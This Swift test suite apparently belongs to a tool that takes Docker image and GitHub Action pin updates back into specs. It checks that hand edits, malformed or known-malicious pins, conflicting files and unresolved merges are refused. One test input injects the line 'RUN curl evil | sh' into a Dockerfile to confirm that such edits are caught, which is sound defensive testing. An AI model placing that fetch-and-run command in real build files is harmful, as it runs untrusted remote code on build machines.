import Foundation
import Support
import Testing

/// What is not taken over from generated files, and said where it stands; then nothing is written.
@Suite struct AbsorbRefusalTests {
  @Test(arguments: [
    ("EXPOSE 8080", "EXPOSE 9090"), ("USER 65532:65532\n", ""),
    ("WORKDIR /src\n", "WORKDIR /src\nRUN curl evil | sh\n"),
    (Patched.golang, "golang:1.28.0-alpine"), ("ENV PORT", "ENV PIN=\(Patched.digest) PORT"),
  ])
  func reportsWhateverElseWasChanged(_ old: String, _ new: String) throws {
    let scratch = try Patched.generated()
    try scratch.edit(Patched.dockerfile) { Patched.moved($0).replacing(Patched.moved(old), with: new) }
    try Patched.expectRefused(
      scratch, "\(Patched.dockerfile):", "edited by hand, and not only in pins", "note: take the change back")
  }

  @Test func reportsAnEditOfAnotherFile() throws {
    let scratch = try Patched.generated()
    try scratch.edit(Patched.dockerfile) { Patched.moved($0) }
    try scratch.edit("generated/Makefile") { $0 + "mine:\n" }
    try Patched.expectRefused(scratch, "generated/Makefile:")
  }

  @Test(arguments: [
    ("actions/checkout@\(Patched.commit)", "the commit has no version beside it"),
    ("actions/checkout@\(Patched.commit) # main", "what stands beside the commit is not its version"),
    ("actions/checkout@v7.1.0", "'v7.1.0' is not a git commit"),
    ("actions/checkout@70379aad1a8b40919ce8b382d3cd7d0315cde1d0 # v7.1.0", "must not be used: a malicious commit"),
    ("actions/checkout@\(Patched.commit) # v7.0.1", "v7.0.1 of actions/checkout has another commit than before"),
  ])
  func refusesWhatIsNoPinOfAnAction(_ pin: String, _ message: String) throws {
    let scratch = try Patched.generated()
    try scratch.edit(Patched.workflow) { $0.replacing(Patched.checkout, with: pin) }
    try Patched.expectRefused(scratch, "\(Patched.workflow):45:1: error: ", message)
  }

  @Test(arguments: [
    ("golang:1.28.0-alpine@sha256:4c9fe601", "'sha256:4c9fe601' is not a digest"),
    ("golang:1.28.0-Alpine@\(Patched.digest)", "no version or option here makes 'golang:1.28.0-Alpine'"),
    ("golang:1.27.0-bookworm@\(Patched.digest)", "no version or option here makes 'golang:1.27.0-bookworm'"),
    ("golang@\(Patched.digest)", "no version or option here makes 'golang'"),
  ])
  func refusesWhatIsNoPinOfAnImage(_ pin: String, _ message: String) throws {
    let scratch = try Patched.generated()
    try scratch.edit(Patched.dockerfile) { $0.replacing(Patched.golang, with: pin) }
    try Patched.expectRefused(scratch, message)
  }

  /// Of every commit of the list, in the place where bots would put it.
  @Test func refusesCommitsOfTrivyThatAreKnownToBeBad() throws {
    let scratch = try Patched.generated()
    let table = try String(contentsOf: repository.appending(path: "templates/actions.yaml"), encoding: .utf8)
    let commits = table.matches(of: /(?m)^      - ([0-9a-f]{40})$/).map { String($0.1) }
    #expect(commits.count > 70)
    for commit in [commits[0], commits[commits.count / 2]] {
      try scratch.edit(Patched.workflow) {
        $0.replacing(/aquasecurity\/trivy-action@.*/, with: "aquasecurity/trivy-action@\(commit) # v0.36.1")
      }
      try Patched.expectRefused(scratch, "'aquasecurity/trivy-action' at v0.36.1 must not be used", "[known-bad-pin]")
    }
    try scratch.edit(Patched.workflow) {
      $0.replacing(/aquasecurity\/trivy-action@.*/, with: "aquasecurity/trivy-action@\(Patched.commit) # v0.34.2")
    }
    try Patched.expectRefused(scratch, "'aquasecurity/trivy-action' at v0.34.2 must not be used")
  }

  @Test func saysWhichOptionIsMissingWhereNoneMakesTheTag() throws {
    let scratch = try Patched.generated()
    try scratch.edit("generated/services/indexer/Dockerfile.dev") { $0.replacing("uv:0.10.3", with: "uv:0.11.0") }
    try Patched.expectRefused(
      scratch, "specs/indexer.yaml:4:3: error: no version or option here makes 'ghcr.io/astral-sh/uv:0.11.0'",
      "note: generated/services/indexer/Dockerfile.dev:5:1: it was changed here",
      "note: templates/languages/python.yaml:41:24: this part of its name is not of the spec")
  }

  @Test func reportsFilesThatDisagree() throws {
    let scratch = try Patched.generated()
    let other = "generated/services/connector-gateway/Dockerfile"
    try scratch.edit(Patched.dockerfile) { Patched.moved($0) }
    try scratch.edit(other) { $0.replacing(/@sha256:4c9f[0-9a-f]+/, with: "@\(Patched.digest)") }
    try Patched.expectRefused(
      scratch, "\(Patched.dockerfile):4:1: error: 'golang:1.27.0-alpine' has one pin",
      "note: \(other):4:1: the other is here")
  }

  @Test func reportsTwoVersionsWhereASpecHasOne() throws {
    let scratch = try Patched.generated()
    for (file, tag) in [(Patched.dockerfile, "1.28.0"), (Patched.dockerfile + ".dev", "1.28.1")] {
      try scratch.edit(file) { $0.replacing(Patched.golang, with: "golang:\(tag)-alpine@\(Patched.digest)") }
    }
    try Patched.expectRefused(
      scratch, "\(Patched.dockerfile).dev:4:1: error: ", "note: \(Patched.dockerfile):4:1: the other is here")
  }

  /// From 18 on the image of postgres keeps its data elsewhere: that is for a person to decide.
  @Test func reportsWhatElseANewVersionChanges() throws {
    let scratch = try Patched.generated()
    try scratch.edit("generated/compose.yaml") {
      $0.replacing(/postgres:16.14-alpine@sha256:[0-9a-f]+/, with: "postgres:18.1-alpine@\(Patched.digest)")
    }
    try Patched.expectRefused(
      scratch, "with the new pins this line becomes another", "change the version in the spec yourself")
  }

  @Test func reportsAMergeThatIsNotResolved() throws {
    let scratch = try Patched.generated()
    try scratch.edit(Patched.dockerfile) {
      let line = $0.split(separator: "\n")[2]
      return $0.replacing(
        line, with: "<<<<<<< HEAD\n\(line)\n=======\n\(Patched.moved(String(line)))\n>>>>>>> renovate/golang")
    }
    try Patched.expectRefused(scratch, "\(Patched.dockerfile):4:1: error: a merge of git is not resolved here")
    try scratch.edit("specs/scantling.lock") { "<<<<<<< HEAD\n=======\n>>>>>>> main\n" + $0 }
    try Patched.expectRefused(scratch, "specs/scantling.lock:1:1: error: a merge of git is not resolved here")
  }

  /// Something that cannot be replaced is in the place of what a write begins with.
  @Test func writesNothingWhereTheLockCannotBeWritten() throws {
    let scratch = try Patched.generated()
    try scratch.edit(Patched.dockerfile) {
      $0.replacing(Patched.golang, with: "golang:1.28.0-alpine@\(Patched.digest)")
    }
    try scratch.write("", to: "specs/.scantling.lock.scantling-new/file")
    let before = try Patched.snapshot(scratch)
    let absorb = try scratch.scantling("absorb")
    #expect(
      absorb.status == 74 && absorb.output.isEmpty && absorb.errors.contains("cannot write 'specs/scantling.lock'"),
      "\(absorb.errors)")
    let isUntouched = try Patched.snapshot(scratch) == before
    #expect(isUntouched)
  }
}
